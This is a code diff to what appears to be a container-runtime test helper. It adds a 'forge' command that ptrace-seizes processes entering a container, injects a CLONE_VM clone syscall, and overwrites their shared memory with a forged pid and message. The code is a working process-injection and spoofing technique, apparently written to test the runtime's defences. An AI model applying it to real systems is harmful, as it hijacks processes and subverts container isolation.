@@ -9,6 +9,7 @@
 #include <errno.h>
 #include <fcntl.h>
 #include <linux/seccomp.h>
+#include <signal.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
@@ -18,7 +19,9 @@
 #include <sys/socket.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
+#include <sys/uio.h>
 #include <sys/un.h>
+#include <sys/user.h>
 #include <sys/wait.h>
 #include <time.h>
 #include <unistd.h>
@@ -223,6 +226,137 @@ static int spy(int argc, char **argv)
 	return 0;
 }
 
+#ifdef __x86_64__
+/* Start of the first mapping of PID whose line in maps has TEXT, 0 when there is none; its end goes to *END. */
+static unsigned long find_mapping(int pid, const char *text, unsigned long *end)
+{
+	char path[64], line[512];
+	unsigned long start = 0, from;
+	FILE *maps;
+
+	snprintf(path, sizeof(path), "/proc/%d/maps", pid);
+	maps = fopen(path, "r");
+	while (maps && !start && fgets(line, sizeof(line), maps))
+		if (strstr(line, text) && sscanf(line, "%lx-%lx", &from, end) == 2)
+			start = from;
+	if (maps)
+		fclose(maps);
+	return start;
+}
+
+/* Address of a syscall instruction in the program of PID. */
+static unsigned long find_syscall(int pid)
+{
+	static unsigned char code[1 << 22];
+	unsigned long end, start = find_mapping(pid, " r-xp ", &end);
+	struct iovec local = { code, sizeof(code) }, remote = { (void *)start, end - start };
+	ssize_t length = start ? process_vm_readv(pid, &local, 1, &remote, 1, 0) : -1;
+
+	for (ssize_t i = 0; i + 1 < length; i++)
+		if (code[i] == 0x0f && code[i + 1] == 0x05)
+			return start + i;
+	return 0;
+}
+
+/* Makes the stopped process clone another one that shares its memory and stays stopped; returns that one's pid. */
+static int keep_memory(int pid)
+{
+	struct user_regs_struct saved, regs;
+	unsigned long address = find_syscall(pid), child = 0;
+	int status;
+
+	if (!address || ptrace(PTRACE_GETREGS, pid, 0, &saved))
+		return 0;
+	regs = saved;
+	regs.rip = address, regs.rax = SYS_clone, regs.orig_rax = -1;
+	regs.rdi = 0x100 /* CLONE_VM */, regs.rsi = regs.rdx = regs.r10 = regs.r8 = 0;
+	ptrace(PTRACE_SETREGS, pid, 0, &regs);
+	ptrace(PTRACE_CONT, pid, 0, 0);
+	if (waitpid(pid, &status, __WALL) == pid && status >> 8 == (SIGTRAP | PTRACE_EVENT_CLONE << 8))
+		ptrace(PTRACE_GETEVENTMSG, pid, 0, &child);
+	ptrace(PTRACE_SYSCALL, pid, 0, 0);
+	waitpid(pid, &status, __WALL);
+	ptrace(PTRACE_SETREGS, pid, 0, &saved);
+	return (int)child;
+}
+
+static void forge_in(int pid, int victim, const char *text)
+{
+	struct {
+		int pid, length;
+		char text[256];
+	} words = { .pid = victim, .length = strlen(text) };
+	unsigned long end, page = find_mapping(pid, " rw-s ", &end);
+	struct iovec local = { &words, 8 + words.length }, remote = { (void *)page, 8 + words.length };
+
+	strcpy(words.text, text);
+	printf("forged %lx\n", page);
+	for (long i = 0; page && i < 300000; i++)
+		if (process_vm_writev(pid, &local, 1, &remote, 1, 0) < 0)
+			return;
+}
+
+/* Takes hold of PID if it is there; 1 when it was, and nothing more is to be done about it. */
+static int forge_one(int pid, int victim, const char *text)
+{
+	char name[16];
+	int status, child = 0;
+
+	if (ptrace(PTRACE_SEIZE, pid, 0, PTRACE_O_TRACECLONE | PTRACE_O_EXITKILL))
+		return errno == EPERM; /* it is traced already, or has ended */
+	snprintf(name, sizeof(name), "%d", pid);
+	if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) || waitpid(pid, &status, __WALL) != pid || !WIFSTOPPED(status))
+		return 1;
+	if (!is_our_own(name))
+		child = keep_memory(pid);
+	ptrace(PTRACE_DETACH, pid, 0, 0);
+	if (child)
+		forge_in(child, victim, text);
+	return 1;
+}
+
+/* The pid that was given last. */
+static int last_pid(void)
+{
+	FILE *load = fopen("/proc/loadavg", "r");
+	int pid = 0;
+
+	if (load && fscanf(load, "%*s %*s %*s %*s %d", &pid) != 1)
+		pid = 0;
+	if (load)
+		fclose(load);
+	return pid;
+}
+
+/*
+ * forge PID TEXT SECONDS: takes hold of every process that is on its way into the container, keeps its memory alive, and writes over
+ * all that it shares with the runtime: PID for its own pid, TEXT for what it says. Pids are given one after the other.
+ */
+static int forge(int argc, char **argv)
+{
+	time_t end = time(NULL) + atoi(argv[2]);
+
+	(void)argc;
+	printf("waiting\n");
+	for (int round = 0, next = 0; time(NULL) < end; round++) {
+		if (round % 64 == 0)
+			next = last_pid() + 1;
+		for (int pid = next; pid < next + 4; pid++)
+			if (forge_one(pid, atoi(argv[0]), argv[1]))
+				next = pid + 1;
+	}
+	printf("end\n");
+	return 0;
+}
+#else
+static int forge(int argc, char **argv)
+{
+	(void)argc, (void)argv;
+	printf("not for this machine\n");
+	return 0;
+}
+#endif
+
 /* syscall NUMBER [ARGUMENT...]: prints the result, or the errno's number. */
 static int raw_syscall(int argc, char **argv)
 {
@@ -315,7 +449,7 @@ int main(int argc, char **argv)
 	} jobs[] = {
 		{ "receive-fd", receive_fd, 1 }, { "seccomp-agent", seccomp_agent, 1 }, { "exchange", exchange, 3 },
 		{ "spy", spy, 1 },		 { "syscall", raw_syscall, 1 },		{ "subreaper", subreaper, 1 },
-		{ "notify-manager", notify_manager, 2 }, { "notify", notify, 1 },
+		{ "notify-manager", notify_manager, 2 }, { "notify", notify, 1 },	{ "forge", forge, 3 },
 	};
 
 	setvbuf(stdout, NULL, _IOLBF, 0);
